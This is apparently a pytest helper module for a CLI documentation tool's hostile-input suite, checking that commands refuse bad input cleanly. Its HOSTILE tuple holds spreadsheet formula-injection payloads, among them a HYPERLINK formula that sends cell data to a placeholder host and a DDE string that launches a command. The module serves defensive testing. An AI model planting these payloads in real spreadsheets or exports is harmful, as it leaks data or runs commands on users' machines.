"""Helpers of the hostile-input suite: run a command in-process and check it failed cleanly."""

from __future__ import annotations

from pathlib import Path

import pytest
from typer.testing import CliRunner

from kongchuo_docs.cli import app

HOSTILE = ('=HYPERLINK("http://example.invalid/?"&A2,"点此")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "-2+3")


class Run:
    """The result of one in-process command: exit code and everything printed."""

    def __init__(self, args: list[str]):
        result = CliRunner().invoke(app, args)
        self.code = result.exit_code
        self.output = result.output
        self.exception = result.exception

    def refused(self, *located: str) -> None:
        """Exit 2, no traceback, and each of `located` (a file:line or file!sheet!cell) in the message."""
        assert self.code == 2, self.output
        assert "Traceback" not in self.output
        for where in located:
            assert where in self.output, (where, self.output)


@pytest.fixture
def run() -> type[Run]:
    return Run


def nothing_written(outdir: Path) -> bool:
    return not outdir.exists() or not any(p.is_file() for p in outdir.rglob("*"))
